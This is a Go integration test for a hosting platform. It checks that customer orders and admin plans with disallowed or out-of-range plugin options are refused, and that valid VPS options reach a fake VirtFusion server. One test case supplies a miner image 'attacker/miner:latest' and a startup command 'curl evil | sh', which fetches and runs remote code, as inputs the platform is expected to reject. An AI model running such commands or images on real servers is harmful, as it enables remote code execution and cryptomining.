package tests

import (
	"sort"
	"strconv"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/ezscale/platform/core/database"
)

// optionProblem is the part of a refusal this test reads.
type optionProblem struct {
	Status int    `json:"status"`
	Code   string `json:"code"`
	Errors []struct {
		Field string `json:"field"`
	} `json:"errors"`
}

func (p optionProblem) fields() []string {
	out := []string{}
	for _, e := range p.Errors {
		out = append(out, e.Field)
	}
	sort.Strings(out)
	return out
}

// TestProvisionOptionsCheckedAgainstPluginDeclarations: against the real
// plugins' declarations (read by `catalog import` in describe mode, then
// from the running plugins), an order that sets a game server's image,
// startup command, swap or databases, or a VPS's IPv4 count, is refused
// with 422 naming each options.<key>, and nothing is ordered or charged; a
// plan saved with values out of the plugin's limits is refused naming
// plugin_options.<key>; a hostname and an OS template the plan offers are
// accepted and reach the VirtFusion server. On both databases.
func TestProvisionOptionsCheckedAgainstPluginDeclarations(t *testing.T) {
	t.Parallel()
	for _, d := range []database.Dialect{database.SQLite, database.Postgres} {
		t.Run(string(d), func(t *testing.T) {
			t.Parallel()
			f := startFakes(t, 1)
			p := startPlatform(t, d, f)
			p.credit(t, 2000)
			orders := "/api/v1/accounts/" + p.account + "/orders"

			for _, tc := range []struct {
				plan    string
				options map[string]string
				want    []string
			}{
				{"minecraft-2gb", map[string]string{"docker_image": "attacker/miner:latest", "startup": "curl evil | sh", "swap": "-1", "databases": "500"},
					[]string{"options.databases", "options.docker_image", "options.startup", "options.swap"}},
				{"vps-small", map[string]string{"ipv4": "16", "package_id": "3"}, []string{"options.ipv4", "options.package_id"}},
				{"vps-small", map[string]string{"os_template_id": "9", "hostname": "bad host"}, []string{"options.hostname", "options.os_template_id"}},
			} {
				var problem optionProblem
				code := p.c.callProblem(t, "POST", orders, p.customer, map[string]any{"plan_id": tc.plan, "options": tc.options}, &problem)
				if code != 422 || problem.Code != "option_refused" {
					t.Errorf("%s with %v: status %d code %q, want 422 option_refused", tc.plan, tc.options, code, problem.Code)
				}
				if diff := cmp.Diff(tc.want, problem.fields()); diff != "" {
					t.Errorf("%s with %v: refused fields (-want +got):\n%s", tc.plan, tc.options, diff)
				}
			}
			var invoices struct {
				Data []struct{} `json:"data"`
			}
			p.must(t, 200, "GET", "/api/v1/accounts/"+p.account+"/invoices", p.customer, nil, &invoices)
			if len(invoices.Data) != 0 {
				t.Errorf("%d invoices after refused orders, want none", len(invoices.Data))
			}

			var problem optionProblem
			code := p.c.callProblem(t, "POST", "/api/v1/admin/plans", p.staff, map[string]any{
				"slug": "vps-huge", "name": "VPS Huge", "service_type": "vps", "currency": "USD", "monthly_price": 100, "plugin": "virtfusion",
				"plugin_options": map[string]string{"package_id": "0", "ipv4": "64", "hostname": "fixed"},
			}, &problem)
			want := []string{"plugin_options.hostname", "plugin_options.ipv4", "plugin_options.package_id"}
			if diff := cmp.Diff(want, problem.fields()); code != 422 || diff != "" {
				t.Errorf("plan with out-of-range options: status %d, fields (-want +got):\n%s", code, diff)
			}
			code = p.c.callProblem(t, "POST", "/api/v1/admin/plans", p.staff, map[string]any{
				"slug": "game-big", "name": "Game Big", "service_type": "game", "currency": "USD", "monthly_price": 100, "plugin": "pterodactyl",
				"plugin_options": map[string]string{"io": "5000", "swap": "-2", "databases": "500"},
				"order_options":  map[string][]string{"docker_image": {}},
			}, &problem)
			want = []string{"order_options.docker_image", "plugin_options.databases", "plugin_options.io", "plugin_options.swap"}
			if diff := cmp.Diff(want, problem.fields()); code != 422 || diff != "" {
				t.Errorf("game plan with out-of-range options: status %d, fields (-want +got):\n%s", code, diff)
			}

			var res struct {
				Service serviceJSON `json:"service"`
			}
			p.must(t, 201, "POST", orders, p.customer, map[string]any{
				"plan_id": "vps-small", "options": map[string]string{"hostname": "web1.example.net", "os_template_id": "2"},
			}, &res)
			svc := p.waitService(t, res.Service.ID, "active", func(s serviceJSON) bool { return s.Status == "active" })
			id, err := strconv.ParseInt(svc.ExternalID, 10, 64)
			if err != nil {
				t.Fatalf("VirtFusion external id %q: %v", svc.ExternalID, err)
			}
			s, _, ok := f.vf.ServerSnapshot(id)
			if !ok || s.Hostname == nil || *s.Hostname != "web1.example.net" || s.Settings.OSTemplateInstallID != 2 {
				t.Errorf("VirtFusion server %d: hostname %v, OS template %d; want web1.example.net and 2", id, s.Hostname, s.Settings.OSTemplateInstallID)
			}
		})
	}
}
